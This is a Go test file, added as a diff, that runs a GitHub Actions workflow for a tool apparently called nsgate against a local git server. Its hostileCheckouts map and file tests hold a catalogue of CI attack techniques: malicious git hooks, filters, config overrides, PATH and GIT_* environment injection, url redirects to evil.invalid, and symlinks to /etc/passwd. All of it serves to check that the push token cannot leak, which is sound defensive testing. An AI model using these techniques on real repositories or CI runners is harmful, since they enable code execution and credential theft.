@@ -1,0 +1,494 @@
+//go:build linux
+
+package command_test
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"net/http/cgi"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+
+	"go.yaml.in/yaml/v3"
+)
+
+// workflow is a job of GitHub on this machine: it runs the steps of action.yml that measure and deliver, with a server
+// that takes pushes with the token alone. A script stands for nsgate and the measured program.
+type workflow struct {
+	t                        *testing.T
+	dir, repo, token, pushed string // pushed is the commit of the server's branch at the start
+	server                   *httptest.Server
+	set                      map[string]string // variables of the job
+	inputs                   map[string]string
+	mutex                    sync.Mutex
+	requests                 string // to another host, such as a proxy
+}
+
+func newWorkflow(t *testing.T) *workflow {
+	w := &workflow{t: t, dir: t.TempDir(), token: fmt.Sprintf("xTOKENx%x", sha256.Sum256([]byte(t.Name())))}
+	w.repo = filepath.Join(w.dir, "checkout")
+	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Stderr: os.Stderr,
+		Env: []string{"GIT_PROJECT_ROOT=" + filepath.Join(w.dir, "server"), "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=ci",
+			"GIT_CONFIG_GLOBAL=" + filepath.Join(w.dir, "server.config")}}
+	if _, err := os.Stat(backend.Path); err != nil {
+		t.Skip("git serves no HTTP here")
+	}
+	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+w.token))
+	w.server = httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
+		w.mutex.Lock()
+		defer w.mutex.Unlock()
+		if r.URL.Host != "" || !strings.HasPrefix(r.URL.Path, "/team/app/") {
+			w.requests += fmt.Sprintln(r.Method, r.URL, r.Header)
+		}
+		if r.Header.Get("Authorization") != want {
+			out.Header().Set("WWW-Authenticate", "Basic")
+			out.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		backend.ServeHTTP(out, r)
+	}))
+	t.Cleanup(w.server.Close)
+	w.shell(`git config --file server.config safe.directory '*'
+		git init -q --bare -b main server/team/app && git -C server/team/app config http.receivepack true
+		git init -q -b main checkout && cd checkout
+		mkdir -p .nsgate/app/gpu && echo old >.nsgate/app/gpu/a.csv && echo code >code && echo kept >.nsgate/README
+		git add -A && git commit -q -m base && git push -q ../server/team/app main`)
+	w.pushed = w.shell("git -C checkout rev-parse HEAD")
+	w.script("bin/nsgate", `echo "nsgate $1"
+		[ "$1" = record ] || exit 0
+		mkdir -p .nsgate/app/gpu; echo new >.nsgate/app/gpu/b.csv
+		grep -alf "$WORK/look" /proc/[0-9]*/environ /proc/[0-9]*/cmdline >>"$WORK/leaked" 2>/dev/null
+		[ -z "$PROGRAM" ] || WORK=$WORK sh -ec "$PROGRAM"`)
+	w.script("evil", `echo "$0 $*" >>'`+w.dir+`/ran'; /usr/bin/env | /usr/bin/grep xTOKENx >>'`+w.dir+`/leaked'
+			/usr/bin/cat >/dev/null 2>&1`)
+	w.inputs = map[string]string{"record": "main", "push": "true", "patch": "nsgate.patch"}
+	w.set = map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/heads/main", "GITHUB_SHA": w.pushed,
+		"GITHUB_SERVER_URL": w.server.URL, "GITHUB_REPOSITORY": "team/app", "GITHUB_WORKSPACE": w.repo,
+		"GITHUB_ACTION_PATH": mustAbs(t, "../.."), "RUNNER_TEMP": filepath.Join(w.dir, "temp"), "WORK": w.dir,
+		"HOME": w.dir, "PATH": filepath.Join(w.dir, "bin") + ":" + os.Getenv("PATH")}
+	w.shell("mkdir temp && echo " + w.token + " >look")
+	return w
+}
+
+func mustAbs(t *testing.T, file string) string {
+	at, err := filepath.Abs(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return at
+}
+
+func (w *workflow) script(name, text string) {
+	w.t.Helper()
+	file := filepath.Join(w.dir, name)
+	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+		w.t.Fatal(err)
+	}
+	if err := os.WriteFile(file, []byte("#!/usr/bin/dash\n"+text+"\n"), 0o755); err != nil {
+		w.t.Fatal(err)
+	}
+}
+
+// shell runs a script as somebody who is no part of the job, and returns its output.
+func (w *workflow) shell(script string) string {
+	w.t.Helper()
+	cmd := exec.Command("sh", "-ec", script)
+	cmd.Dir = w.dir
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=/nonexistent", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a",
+		"GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "GIT_CONFIG_COUNT=1",
+		"GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		w.t.Fatalf("%s: %v: %s", script, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+var inputOf = regexp.MustCompile(`^\$\{\{ inputs\.([a-z-]+) \}\}$`)
+
+// run runs the job and returns its log, and whether it succeeded. What a step writes to $GITHUB_ENV and $GITHUB_PATH
+// holds for the next ones. program is a script that the measured program runs in the checkout.
+func (w *workflow) run(program string) (log string, ok bool) {
+	w.t.Helper()
+	var action struct {
+		Runs struct {
+			Steps []struct {
+				Name, ID, If, Shell, Run string
+				Env                      map[string]string
+			}
+		}
+	}
+	text, err := os.ReadFile("../../action.yml")
+	if err == nil {
+		err = yaml.Unmarshal(text, &action)
+	}
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	job, outputs, measuring := map[string]string{"PROGRAM": program}, "", false
+	for name, value := range w.set {
+		job[name] = value
+	}
+	for i, step := range action.Runs.Steps {
+		if measuring = measuring || step.ID == "gate"; !measuring || step.Run == "" {
+			continue
+		}
+		if step.If != "" && !strings.Contains(outputs, "recorded=true") {
+			continue
+		}
+		env := map[string]string{}
+		for name, value := range job {
+			env[name] = value
+		}
+		for _, name := range []string{"ENV", "PATH", "OUTPUT", "STEP_SUMMARY"} {
+			env["GITHUB_"+name] = filepath.Join(w.dir, "temp", fmt.Sprint(name, i))
+			w.shell(": >'" + env["GITHUB_"+name] + "'")
+		}
+		for name, value := range step.Env {
+			switch m := inputOf.FindStringSubmatch(value); {
+			case value == "${{ inputs.token }}":
+				env[name] = w.token
+			case value == "${{ github.event.repository.default_branch }}":
+				env[name] = "main"
+			case m != nil:
+				env[name] = w.inputs[m[1]]
+			default:
+				env[name] = ""
+			}
+		}
+		shell := filepath.Join(w.dir, "temp", "step.sh")
+		if err := os.WriteFile(shell, []byte(step.Run), 0o600); err != nil {
+			w.t.Fatal(err)
+		}
+		// The runner looks the shell up in the path of the step.
+		cmd := exec.Command("/usr/bin/env", "bash", "--noprofile", "--norc", "-eo", "pipefail", shell)
+		cmd.Dir = w.repo
+		for name, value := range env {
+			cmd.Env = append(cmd.Env, name+"="+value)
+		}
+		out, err := cmd.CombinedOutput()
+		if log += string(out); err != nil {
+			return log, false
+		}
+		read := func(name string) string {
+			text, _ := os.ReadFile(env["GITHUB_"+name])
+			return string(text)
+		}
+		outputs += read("OUTPUT")
+		for line := range strings.Lines(read("PATH")) {
+			job["PATH"] = strings.TrimSpace(line) + ":" + job["PATH"]
+		}
+		for line := range strings.Lines(read("ENV")) {
+			name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
+			if job[name] = value; strings.HasPrefix(name, "GITHUB_") {
+				w.t.Fatal("no step can set ", name)
+			}
+		}
+	}
+	return log, true
+}
+
+// kept fails the test where a program of the change ran with the token or saw it, or the branch of the server is not as
+// it was, apart from a commit on it that adds files of the baseline.
+func (w *workflow) kept(log string, files ...string) {
+	w.t.Helper()
+	for _, name := range []string{"ran", "leaked"} {
+		if text, _ := os.ReadFile(filepath.Join(w.dir, name)); len(text) > 0 {
+			w.t.Errorf("%s: %s\n%s", name, text, log)
+		}
+	}
+	if w.requests != "" {
+		w.t.Errorf("another server got %s", w.requests)
+	}
+	if left := w.shell("ls -d temp/nsgate-* 2>/dev/null || :"); left != "" {
+		w.t.Errorf("%s is left", left)
+	}
+	at := "git -C server/team/app "
+	if len(files) == 0 {
+		if now := w.shell(at + "rev-parse main"); now != w.pushed {
+			w.t.Errorf("the branch was moved: %s\n%s", w.shell(at+"log --stat -3 main"), log)
+		}
+		return
+	}
+	if parent := w.shell(at + "rev-parse main^@"); parent != w.pushed {
+		w.t.Errorf("the parents are %q, not the commit of the job\n%s", parent, log)
+		return
+	}
+	if changed := w.shell(at + "diff --name-only main^ main"); changed != strings.Join(files, "\n") {
+		w.t.Errorf("the commit changes %q\n%s", changed, log)
+	}
+	if modes := w.shell(at + "ls-tree -r main | grep -v ^100644 || :"); modes != "" {
+		w.t.Errorf("the commit holds %s", modes)
+	}
+	if text := w.shell(at + "show 'main:" + files[len(files)-1] + "'"); text != "new" {
+		w.t.Errorf("the file is %q", text)
+	}
+}
+
+const newFile = ".nsgate/app/gpu/b.csv"
+
+// TestRecordedEvents holds that only the commit of a push, a schedule or a job by hand
+// is recorded: the other events run
+// with the rights of the default branch, whoever wrote what is checked out.
+func TestRecordedEvents(t *testing.T) {
+	t.Parallel()
+	stranger := `cd checkout && git checkout -q -b stranger && echo evil >code && git commit -q -a -m stranger`
+	for n, event := range []string{"push", "schedule", "workflow_dispatch", "workflow_run",
+		"issue_comment", "pull_request_target",
+		"pull_request", "pull_request_review", "issues", "release", "repository_dispatch", "workflow_call", "merge_group",
+		"check_run", "status", "label", "delete", "deployment_status", "registry_package", "watch", ""} {
+		for _, record := range []string{"main", "true"} {
+			for i, checkout := range []string{stranger, "", "cd checkout && git checkout -q --detach && " +
+				"git commit -q --allow-empty -m more"} {
+				if i > 0 && n > 5 && os.Getenv("NSGATE_TEST_FULL") == "" {
+					continue
+				}
+				t.Run(event+" "+record+" "+regexp.MustCompile(`\W+`).ReplaceAllString(checkout, "_"), func(t *testing.T) {
+					t.Parallel()
+					w := newWorkflow(t)
+					w.set["GITHUB_EVENT_NAME"], w.inputs["record"] = event, record
+					w.shell(checkout)
+					log, ok := w.run("")
+					own := checkout == "" && (event == "push" || event == "schedule" || event == "workflow_dispatch")
+					switch {
+					case own:
+						w.kept(log, newFile)
+					default:
+						w.kept(log)
+					}
+					if ok != (own || record == "main") {
+						t.Errorf("success is %v: %s", ok, log)
+					}
+					if says := map[bool]string{true: "nsgate record", false: "nsgate check"}[own]; ok && !strings.Contains(log, says) {
+						t.Errorf("no %q in %s", says, log)
+					}
+					if !own && !regexp.MustCompile(`::(notice|error) .*(is none of push|is checked out, not)`).MatchString(log) {
+						t.Errorf("it does not say why: %s", log)
+					}
+				})
+			}
+		}
+	}
+}
+
+// TestRecordedRefs: a baseline is pushed to a branch alone, and a job of another branch judges.
+func TestRecordedRefs(t *testing.T) {
+	t.Parallel()
+	for ref, record := range map[string]string{"refs/tags/main": "true", "refs/heads/topic": "main",
+		"refs/pull/7/merge": "true",
+		"refs/heads/main/x": "main", "": "true"} {
+		w := newWorkflow(t)
+		w.set["GITHUB_REF"], w.inputs["record"] = ref, record
+		log, ok := w.run("")
+		w.kept(log)
+		if ok != (record == "main") {
+			t.Errorf("%s: success is %v: %s", ref, ok, log)
+		}
+	}
+}
+
+// hostileCheckouts are scripts of a measured program: each leaves a program, $WORK/evil, where git or a shell would run
+// it, or files that would be pushed.
+var hostileCheckouts = map[string]string{
+	"nothing": ":",
+	"hooks": `for hook in applypatch-msg pre-applypatch post-applypatch \
+		pre-commit pre-merge-commit prepare-commit-msg commit-msg \
+		post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update \
+		reference-transaction push-to-checkout pre-auto-gc \
+		post-rewrite sendemail-validate fsmonitor-watchman post-index-change \
+		p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit; do cp $WORK/evil .git/hooks/$hook; done`,
+	"hooksPath": `mkdir $WORK/hooks; for hook in pre-push reference-transaction post-index-change
+			do cp $WORK/evil $WORK/hooks/$hook; done
+		git config core.hooksPath $WORK/hooks; git config --global core.hooksPath $WORK/hooks`,
+	"template": `mkdir -p $WORK/template/hooks; for hook in pre-push reference-transaction post-index-change
+			do cp $WORK/evil $WORK/template/hooks/$hook; done
+		git config --global init.templateDir $WORK/template`,
+	"fsmonitor": `git config core.fsmonitor $WORK/evil; git config --global core.fsmonitor $WORK/evil`,
+	"filters": `for f in clean smudge process; do git config filter.evil.$f $WORK/evil
+			git config --global filter.evil.$f $WORK/evil; done
+		git config filter.evil.required true; echo '* filter=evil diff=evil merge=evil' >.gitattributes
+			cp .gitattributes .nsgate/
+		cp .gitattributes .git/info/attributes; mkdir -p $WORK/.config/git; cp .gitattributes $WORK/.config/git/attributes
+		git config diff.evil.textconv $WORK/evil; git config diff.evil.command $WORK/evil
+			git config diff.external $WORK/evil`,
+	"programs": `for key in core.pager core.sshCommand core.editor core.askPass \
+		core.gitProxy gpg.program gpg.ssh.program core.alternateRefsCommand \
+		credential.helper credential.http://127.0.0.1.helper remote.origin.receivepack \
+		remote.origin.uploadpack uploadpack.packObjectsHook \
+		sequence.editor alias.push alias.hash-object alias.commit-tree trailer.x.command; do
+		git config $key "!$WORK/evil"; git config --global $key "$WORK/evil"; done
+		git config commit.gpgSign true; git config --global push.gpgSign if-asked; git config --global commit.gpgSign true`,
+	"insteadOf": `for where in '' --global; do git config $where url.http://evil.invalid/.insteadOf $GITHUB_SERVER_URL/
+		git config $where url.http://evil.invalid/.pushInsteadOf $GITHUB_SERVER_URL/; done`,
+	"proxy": `for where in '' --global; do git config $where http.proxy $GITHUB_SERVER_URL
+			git config $where remote.origin.proxy $GITHUB_SERVER_URL
+		git config $where http.curloptResolve "*:80:127.0.0.1"; git config $where http.sslVerify false; done
+		for name in http_proxy HTTP_PROXY ALL_PROXY all_proxy; do echo $name=$GITHUB_SERVER_URL >>$GITHUB_ENV; done`,
+	"include": `printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s\n[include]\n\tpath = %s\n' $WORK/evil $WORK $WORK/other >$WORK/included
+		git config include.path $WORK/included; git config --global include.path $WORK/included
+		git config extensions.worktreeConfig true; cp $WORK/included .git/config.worktree`,
+	"variables": `cp $WORK/evil $WORK/git-remote-http
+			for v in GIT_SSH_COMMAND GIT_SSH GIT_ASKPASS SSH_ASKPASS GIT_EXTERNAL_DIFF GIT_PAGER GIT_EDITOR \
+		GIT_PROXY_COMMAND GIT_SEQUENCE_EDITOR PAGER EDITOR BASH_ENV ENV; do echo $v=$WORK/evil >>$GITHUB_ENV; done
+		printf 'GIT_EXEC_PATH=%s\nGIT_TRACE=%s\nGIT_TRACE_CURL=%s\nGIT_TRACE_REDACT=0\nGIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=core.hooksPath\nGIT_CONFIG_VALUE_0=%s\nGIT_DIR=%s\nGIT_INDEX_FILE=%s\nGIT_CONFIG_PARAMETERS=%s\nGIT_TEMPLATE_DIR=%s\nSHELLOPTS=xtrace\nPS4=$(%s)\nGIT_ALTERNATE_OBJECT_DIRECTORIES=%s\nGIT_WORK_TREE=%s\nGIT_CURL_VERBOSE=1\n' \
+		$WORK $WORK/leaked $WORK/leaked $WORK $WORK/none $WORK/index "'core.fsmonitor=$WORK/evil'" $WORK $WORK/evil $WORK $WORK >>$GITHUB_ENV`,
+	"path": `mkdir $WORK/first; for name in git sh bash base64 tr env sed find stat mktemp rm cat printf date
+			do cp $WORK/evil $WORK/first/$name; done
+		echo $WORK/first >>$GITHUB_PATH; for file in $WORK/bin/*; do cp $WORK/evil $file; done`,
+	"own script": `for file in "$GITHUB_ACTION_PATH"/.github/recorded; do [ -w $file ] && [ -d $WORK/action ] &&
+			{ cat $WORK/evil >$file; }; done`,
+	"home": `echo "machine 127.0.0.1 login a password b" >$WORK/.netrc; cp $WORK/evil $WORK/.bashrc
+			cp $WORK/evil $WORK/.profile; cp $WORK/evil $WORK/.bash_profile`,
+	"commits": `echo evil >code; git -c user.name=e -c user.email=e@e commit -q -a -m evil`,
+	"staged":  `echo evil >code; echo more >more; git add -A`,
+	"branches": `git update-ref refs/heads/main HEAD^0; git checkout -q --detach
+			git -c user.name=e -c user.email=e@e commit -q --allow-empty -m e; git update-ref refs/heads/main HEAD`,
+	"replace": `git config user.name e; git config user.email e@e; git checkout -q --detach; echo evil >code
+			git commit -q -a -m evil
+		git replace -f $GITHUB_SHA HEAD; git checkout -q --detach $GITHUB_SHA
+			echo "$GITHUB_SHA $(git rev-parse HEAD)" >.git/info/grafts`,
+	"alternates": `mkdir -p $WORK/other/pack; echo $WORK/other >.git/objects/info/alternates`,
+	"other files": `echo evil >.nsgate/run.sh; chmod 755 .nsgate/run.sh; mkdir -p .nsgate/.github/workflows
+			echo evil >.nsgate/.github/workflows/x.yml
+		echo '* filter=evil' >.nsgate/.gitattributes; echo evil >.nsgate/README; echo evil >evil.csv; rm -f code`,
+	"mode": `chmod 755 .nsgate/app/gpu/b.csv`,
+	"skip": `git update-index --assume-unchanged code .nsgate/app/gpu/a.csv; echo .nsgate >.gitignore
+			echo '*' >.git/info/exclude`,
+	"worktree": `git config core.worktree $WORK; git config core.bare true`,
+	"lock":     `: >.git/index.lock; rm -f .git/index; : >.git/config.lock`,
+	"no git":   `mv .git/config .git/config.old; rm -rf .git/refs .git/hooks; mkdir .git/refs`,
+	"case": `git config core.ignoreCase true; git config core.precomposeUnicode true
+			git config core.sparseCheckout true; git config core.autocrlf true`,
+	"inner hooks": `git init -q .nsgate/inner; for hook in pre-commit reference-transaction
+			do cp $WORK/evil .nsgate/inner/.git/hooks/$hook; done`,
+}
+
+// TestRecordedHostile runs programs that leave hooks, filters, configuration, variables and programs where the delivery
+// meets them: none runs, none sees the token, and one commit with the new file of the baseline arrives.
+func TestRecordedHostile(t *testing.T) {
+	t.Parallel()
+	for name, program := range hostileCheckouts {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorkflow(t)
+			if name == "own script" {
+				w.shell(`mkdir -p action/.github && cp -r '` + mustAbs(t, "../../.github/recorded") + `' action/.github/`)
+				w.set["GITHUB_ACTION_PATH"] = filepath.Join(w.dir, "action")
+			}
+			log, ok := w.run(program)
+			if w.kept(log, newFile); !ok {
+				t.Error(log)
+			}
+			// The patch holds the same.
+			w.shell(`git clone -q -s server/team/app again 2>&1 && cd again && git reset -q --hard ` + w.pushed +
+				` && git apply --index ../checkout/nsgate.patch && git diff --cached --quiet origin/main`)
+		})
+	}
+}
+
+// TestRecordedFiles: links, pipes, submodules and objects of another name are delivered by nobody.
+func TestRecordedFiles(t *testing.T) {
+	t.Parallel()
+	for name, program := range map[string]string{
+		"link":         `ln -s /etc/passwd .nsgate/app/gpu/c.csv`,
+		"link instead": `rm .nsgate/app/gpu/a.csv; ln -s ../../../code .nsgate/app/gpu/a.csv`,
+		"dead link":    `ln -s nowhere .nsgate/c.csv`,
+		"linked root":  `mv .nsgate $WORK/away; ln -s $WORK/away .nsgate`,
+		"linked other": `mkdir -p sub $WORK/away2; cp -r .nsgate $WORK/away2; ln -s $WORK/away2/.nsgate sub/.nsgate`,
+		"pipe":         `mkfifo .nsgate/c.csv`,
+		"directory":    `mkdir .nsgate/c.csv`,
+		"large":        `truncate -s 600M .nsgate/c.csv`,
+		"many":         `mkdir .nsgate/many; cd .nsgate/many; seq 10001 | sed 's/$/.csv/' | xargs touch`,
+		"in place of":  `rm code; mkdir -p code/.nsgate; echo evil >code/.nsgate/x.csv`,
+		"other objects": `id=$(git rev-parse HEAD^{tree}); file=.git/objects/$(echo $id | sed 's,^..,&/,')
+			echo evil >evil; git add evil; git rm -q --cached code; other=$(git write-tree); chmod u+w $file
+			cat .git/objects/$(echo $other | sed 's,^..,&/,') >$file`,
+		"no objects": `rm -rf .git/objects; mkdir .git/objects`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorkflow(t)
+			log, ok := w.run(program)
+			if w.kept(log); ok || !strings.Contains(log, "::error title=nsgate::the baseline was not delivered: ") {
+				t.Errorf("success is %v: %s", ok, log)
+			}
+		})
+	}
+}
+
+// TestRecordedChanges: a file that is gone or new at another place is delivered, and nothing where nothing changed.
+func TestRecordedChanges(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		name, program, baseline, in string
+		files                       []string
+	}{
+		{"gone", `rm .nsgate/app/gpu/a.csv`, "", "", []string{".nsgate/app/gpu/a.csv", newFile}},
+		{"beside another policy", `mkdir -p sub/.nsgate/w
+			echo new >sub/.nsgate/w/x.step.json`, "", "", []string{newFile, "sub/.nsgate/w/x.step.json"}},
+		{"a directory of its own", `mkdir -p 'a [b]*'; echo new >'a [b]*/x.csv'; mkdir -p 'a b'
+			echo new >'a b/x.csv'`, "a [b]*", "", []string{"a [b]*/x.csv"}},
+		{"below a directory", ":", "", "below", []string{"below/" + newFile}},
+		{"unchanged", `rm .nsgate/app/gpu/b.csv`, "", "", nil},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorkflow(t)
+			w.inputs["baseline"], w.inputs["working-directory"] = c.baseline, c.in
+			w.shell("mkdir -p checkout/below")
+			log, ok := w.run(c.program)
+			if w.kept(log, c.files...); !ok {
+				t.Error(log)
+			}
+		})
+	}
+}
+
+// TestRecordedModes: a patch alone needs no token and no event, the exit code of nsgate stays, a signal reaches it, and
+// what lies there already is delivered alone.
+func TestRecordedModes(t *testing.T) {
+	t.Parallel()
+	w := newWorkflow(t)
+	w.inputs["record"], w.inputs["push"], w.set["GITHUB_EVENT_NAME"] = "true", "", "pull_request"
+	w.token = ""
+	log, ok := w.run("")
+	if w.kept(log); !ok {
+		t.Error(log)
+	}
+	w.shell("cd checkout && git reset -q --hard && git apply --index nsgate.patch && test $(cat " + newFile + ") = new")
+
+	w = newWorkflow(t)
+	w.script("bin/nsgate", "exit 3")
+	if log, ok := w.run(""); ok || strings.Contains(log, "error") {
+		t.Errorf("success is %v: %s", ok, log)
+	}
+
+	w = newWorkflow(t)
+	w.script("bin/nsgate", `trap 'echo stopped; exit 143' TERM; sleep 0.2; kill -INT $PPID
+			for i in 1 2 3 4 5 6 7 8 9; do sleep 0.5; done`)
+	if log, ok := w.run(""); ok || !strings.Contains(log, "stopped") {
+		t.Errorf("success is %v: %s", ok, log)
+	}
+
+	w = newWorkflow(t)
+	w.shell("echo new >checkout/" + newFile)
+	cmd := exec.Command("bash", mustAbs(t, "../../.github/recorded"))
+	cmd.Dir = w.repo
+	cmd.Env = append(os.Environ(), "TOKEN="+w.token, "PUSH=true",
+		"PATCH=", "BASELINE=", "WORKING_DIRECTORY=", "GITHUB_STEP_SUMMARY="+w.dir+"/summary")
+	for name, value := range w.set {
+		cmd.Env = append(cmd.Env, name+"="+value)
+	}
+	out, err := cmd.CombinedOutput()
+	if w.kept(string(out), newFile); err != nil {
+		t.Error(err)
+	}
+}
